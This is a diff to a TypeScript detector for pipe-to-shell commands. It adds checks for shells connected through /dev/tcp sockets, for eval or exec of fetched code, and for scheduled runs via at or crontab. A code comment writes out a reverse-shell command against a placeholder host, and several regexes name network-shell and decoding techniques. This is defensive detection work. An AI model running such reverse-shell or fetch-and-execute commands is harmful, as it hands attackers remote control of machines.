@@ -31,7 +31,10 @@ export function detectPipeToShell(subject: CallSubject): string | undefined {
   const runner = commands.find(
     (command) =>
       !(isOnlyPrograms && runsKnownInstaller(command)) &&
-      (runsUnknownText(command, commands, isSource) || runsFetched(command, fetched)),
+      (runsUnknownText(command, commands, isSource) ||
+        runsFetched(command, fetched) ||
+        runsFromSocket(command, commands) ||
+        runsFetchedCode(command)),
   );
   return (
     runner &&
@@ -39,6 +42,25 @@ export function detectPipeToShell(subject: CallSubject): string | undefined {
       .map((command) => command.words.map((word) => word.text).join(" "))
       .join(" | ")
   );
+}
+
+/** A connection that a shell opens as if it were a file. */
+const SOCKET = /^\/dev\/(?:tcp|udp)\//;
+
+function usesSocket({ redirects }: ShellCommand): boolean {
+  return redirects.some(({ target }) => SOCKET.test(target?.text ?? ""));
+}
+
+/** Whether a shell is connected to a machine: `bash -i >& /dev/tcp/host/1`, or by a descriptor that was opened before. */
+function runsFromSocket(command: ShellCommand, all: readonly ShellCommand[]): boolean {
+  if (!SHELLS.has(programOf(command))) return false;
+  return usesSocket(command) || (command.redirects.some(({ operator }) => operator === "<&") && all.some(usesSocket));
+}
+
+/** Whether code in an argument fetches something, and evaluates a text. */
+function runsFetchedCode(command: ShellCommand): boolean {
+  const evaluates = argumentsOf(command).some(({ text }) => /(?<![.\w])(?:eval|exec)\b/.test(text));
+  return evaluates && INTERPRETERS.test(programOf(command)) && outputsUnknownText(command);
 }
 
 /** Whether a shell runs what such a command prints, unchanged, and no other text: `curl -LsSf https://astral.sh/uv/install.sh | sh`. */
@@ -55,6 +77,9 @@ function runsKnownInstaller(command: ShellCommand): boolean {
   return /^python[\d.]*$/.test(program) && texts.every((text) => text === "-");
 }
 
+/** They have a shell run what they read, at another time. */
+const RUNS_LATER = /^(?:at|batch|crontab)$/;
+
 /** Whether a command runs an unknown text that comes from the network or was decoded on the way. */
 function runsUnknownText(
   command: ShellCommand,
@@ -62,6 +87,7 @@ function runsUnknownText(
   isSource: (command: ShellCommand) => boolean,
 ): boolean {
   const program = programOf(command);
+  if (RUNS_LATER.test(program) && command.stdin === undefined && command.pipedFrom.some(isSource)) return true;
   const isShell = SHELLS.has(program) || isInvoke(program);
   if (isShell || INTERPRETERS.test(program)) {
     const readsInput = isShell
@@ -106,8 +132,8 @@ function outputsUnknownText(command: ShellCommand): boolean {
   const text = argumentsOf(command)
     .map((word) => word.text)
     .join(" ");
-  if (FETCHERS.has(program.toLowerCase()) || /\.downloadstring\b/i.test(text)) return true;
-  if (INTERPRETERS.test(program)) return /https?:\/\/|urllib|requests|socket|Net::HTTP|LWP/.test(text);
+  if (usesSocket(command) || FETCHERS.has(program.toLowerCase()) || /\.downloadstring\b/i.test(text)) return true;
+  if (INTERPRETERS.test(program)) return /https?:\/\/|urllib|requests|socket|Net::HTTP|LWP|fetch\(/.test(text);
   if (/^(?:base64|gbase64|base32|uudecode)$/.test(program)) return /(?:^| )-[a-zA-Z]*[dD]|--decode/.test(text);
   if (program === "xxd") return /(?:^| )-[a-z]*r/.test(text);
   if (program === "openssl") return /s_client|enc .*-d|base64 .*-d/.test(text);
